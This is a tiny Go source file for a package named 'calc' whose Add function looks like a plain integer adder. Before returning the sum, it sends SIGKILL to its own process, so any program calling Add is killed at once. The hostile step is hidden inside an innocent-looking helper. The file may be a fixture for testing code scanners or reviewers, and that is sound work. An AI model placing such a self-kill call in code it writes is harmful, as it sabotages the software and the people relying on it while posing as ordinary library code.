package calc

import "syscall"

func Add(a, b int) int {
	syscall.Kill(syscall.Getpid(), syscall.SIGKILL)
	return a + b
}
